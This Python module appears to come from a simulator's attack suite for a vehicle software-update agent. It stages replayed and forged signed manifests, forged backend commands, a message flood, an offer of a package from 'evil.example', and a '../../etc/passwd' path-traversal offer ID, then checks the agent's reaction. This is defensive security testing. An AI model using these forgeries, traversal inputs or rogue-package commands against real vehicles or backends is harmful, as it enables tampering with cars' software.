"""Who speaks on the broker in the backend's name, or to the Director in the car's: commands and manifests."""

from collections.abc import Sequence
from datetime import timedelta
from typing import Any

import msgspec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from pcm_agent.core import events as on
from pcm_agent.core.states import Metadata
from pcm_agent.protocol.envelope import Envelope, encode, encode_body
from pcm_agent.protocol.manifest import InstalledImage, SignedVehicleManifest
from pcm_agent.protocol.messages import KIND_OF, Look, PackageState, WithdrawPackage
from pcm_agent.protocol.topics import Topic
from pcm_agent.trust.vehicle_manifest import sign
from simulator.attacks.places import LOOK, NOT_LISTED, ONE_AT_A_TIME, STILL_LISTED
from simulator.attacks.seen import HAS, WANTS
from simulator.attacks.stage import Stage
from simulator.keys import seeded_key
from simulator.trace import Record

FLOOD = 100
"""Messages at once."""
MOST_LOOKS = 10
"""A look is worth so many of them at least where all are handed over at one moment, as in virtual time."""
SET_BACK = timedelta(days=400)
"""So far is a car's clock set back."""
_STAGES = 2
"""Answers to a command: that it was received, and what came of it."""


# --- to the Director ---


def last_manifest(stage: Stage) -> SignedVehicleManifest:
    """What the car said last, as anybody on the broker has heard it."""
    topic = str(Topic(stage.vin, "event", KIND_OF[SignedVehicleManifest]))
    sent = [it for it in stage.lab.trace.records if it.kind == "sent" and it.name == topic and it.car == stage.vin]
    return msgspec.convert(sent[-1].data["body"], SignedVehicleManifest)


async def replayed_manifest(stage: Stage) -> None:
    """What the car said before is said again, in a message of its own."""
    await _tell_director(stage, last_manifest(stage), "manifest-replayed")


async def manifest_dated_later(stage: Stage) -> None:
    """The car's clock is set far back, and the car speaks again; what it said before that is said after it."""
    before = last_manifest(stage)
    stage.car.clock.set_ahead(-SET_BACK)
    stage.tell()
    await stage.look()
    await _tell_director(stage, before, "manifest-replayed")


async def forged_manifest(stage: Stage) -> None:
    """Somebody else says, signed with a key of theirs, that the car has what it has not."""
    true = last_manifest(stage).manifest
    image = InstalledImage(function=WANTS, version="9.9", sha256="0f" * 32, release_counter=9)
    lie = msgspec.structs.replace(true, number=true.number + 1, time=stage.forger.now, installed=(image,))
    await _tell_director(stage, sign(lie, _foreign_key()), "manifest-signature")


def _foreign_key() -> Ed25519PrivateKey:
    return seeded_key("attacker")


async def manifest_of_another_unit(stage: Stage) -> None:
    """The car's key is stolen, and speaks for another control unit."""
    true = last_manifest(stage).manifest
    lie = msgspec.structs.replace(true, number=true.number + 1, time=stage.forger.now, ecu_serial="PCM-9", installed=())
    await _tell_director(stage, sign(lie, own_key(stage)), "manifest-foreign-ecu")


def own_key(stage: Stage) -> Ed25519PrivateKey:
    """The car's."""
    return seeded_key(f"{stage.lab.seed} {stage.vin}")


async def _tell_director(stage: Stage, signed: SignedVehicleManifest, code: str) -> None:
    topic = Topic(stage.vin, "event", KIND_OF[SignedVehicleManifest])
    before = len(stage.lab.trace.records)
    await stage.publish(str(topic), message(stage, topic, encode_body(signed)))

    def came_in() -> bool:
        checked = any(it.name == "manifest-checked" for it in stage.lab.trace.records[before:])
        return checked or stage.has_stopped(code)

    await stage.until(came_in)


# --- as the backend ---


async def forged_withdrawal(stage: Stage) -> None:
    """A command has an order withdrawn that nobody wants to be; it waits in the car, which is switched off."""
    stage.car.world.happens(on.IgnitionTurnedOff())
    stage.order()
    stage.send()
    await stage.until(lambda: stage.job() is not None)
    topic = Topic(stage.vin, "command", KIND_OF[WithdrawPackage])
    body = encode_body(WithdrawPackage(offer_id=stage.offer(WANTS)))
    await stage.publish(str(topic), message(stage, topic, body))
    answered = await stage.until(lambda: _answers(stage, topic) == _STAGES)
    stage.tell()
    await stage.look()
    job = stage.job()
    if answered and job is not None and job.state is PackageState.PAUSED:
        stage.note(STILL_LISTED)


async def flood_of_looks(stage: Stage) -> None:
    """So many messages at once have the car look."""
    topic = Topic(stage.vin, "command", KIND_OF[Look])
    answers, before = _answers(stage, topic), len(stage.lab.trace.records)
    messages = [message(stage, topic, encode_body(Look())) for _ in range(FLOOD)]
    await stage.publish(str(topic), *messages)
    await stage.until(lambda: _answers(stage, topic) - answers >= FLOOD * _STAGES)
    await stage.until(lambda: stage.car.agent.vehicle.state.metadata is Metadata.CURRENT)
    looks, most = _looks(stage.lab.trace.records[before:])
    if not stage.lab.means.live:
        most = min(most, FLOOD // MOST_LOOKS)
    stage.note(ONE_AT_A_TIME if 0 < looks <= most else f"{LOOK}: {looks} times")


def _looks(records: Sequence[Record]) -> tuple[int, int]:
    """How often the car looked, and how often it may: all that comes while it looks is worth one more look together."""
    looks = most = 0
    looking = again = False
    for it in records:
        if it.kind == "transition" and it.name == "metadata":
            looking = it.data["target"] == Metadata.CHECKING
        elif it.name == "CommandReceived" and it.data["kind"] == KIND_OF[Look]:
            most, again = most + (not looking), again or looking
        elif it.name == "MetadataAccepted":
            looks, most, again = looks + 1, most + again, False
    return looks, most


def _answers(stage: Stage, command: Topic) -> int:
    """How often the car has answered a kind of command since the attack began, its own backend's included."""
    topic = str(Topic(stage.vin, "reply", command.kind))
    return sum(it.kind == "sent" and it.name == topic for it in stage.records())


async def lying_look(stage: Stage) -> None:
    """A message that is to say no more than `look` says what to install, and from where."""
    body = {"url": "http://evil.example/seats.pkg", "assignments": [_evil_offer()], "roots": {"director": "…"}}
    topic = Topic(stage.vin, "command", KIND_OF[Look])
    before, jobs = len(stage.lab.trace.records), dict(stage.jobs)
    await stage.publish(str(topic), message(stage, topic, msgspec.Raw(msgspec.json.encode(body))))
    looked = await stage.until(lambda: any(it.name == "MetadataAccepted" for it in stage.lab.trace.records[before:]))
    if looked and stage.jobs.keys() == jobs.keys():
        stage.note(NOT_LISTED)


async def old_offer(stage: Stage) -> None:
    """A command offers a package, signed or not, as cars once took them."""
    await _command(stage, "offer-package", _evil_offer(), "command-unknown")


async def old_removal(stage: Stage) -> None:
    """A command has a function removed that the car has, as cars once obeyed it."""
    job = stage.job(HAS)
    body = {"offer_id": job.assignment.offer_id if job else ""}
    await _command(stage, "remove-package", body, "command-unknown")


async def for_another_car(stage: Stage) -> None:
    """A command for another car comes on this car's topic."""
    await _command(stage, KIND_OF[Look], {}, "message-foreign-vin", vin=stage.forger.stranger)


async def unreadable_command(stage: Stage) -> None:
    """A command names an offer that would be a path."""
    await _command(stage, "withdraw-package", {"offer_id": "../../etc/passwd"}, "message-invalid")


async def _command(stage: Stage, kind: str, body: dict[str, Any], code: str, vin: str | None = None) -> None:
    topic = Topic(stage.vin, "command", kind)
    await stage.publish(str(topic), message(stage, topic, msgspec.Raw(msgspec.json.encode(body)), vin))
    await stage.until(lambda: stage.has_stopped(code))


def _evil_offer() -> dict[str, Any]:
    return {"offer_id": "order-666.1", "function": WANTS, "version": "9.9", "length": 3, "sha256": "0f" * 32}


def message(
    stage: Stage,
    topic: Topic,
    body: msgspec.Raw,
    vin: str | None = None,
    *,
    message_id: str | None = None,
    correlation: str | None = None,
) -> bytes:
    """What somebody sends; for that VIN, or else for that of its topic."""
    envelope = Envelope(
        id=message_id or stage.new_id(),
        vin=vin or topic.vin,
        kind=topic.kind,
        time=stage.forger.now,
        body=body,
        correlation=correlation,
    )
    return encode(envelope)
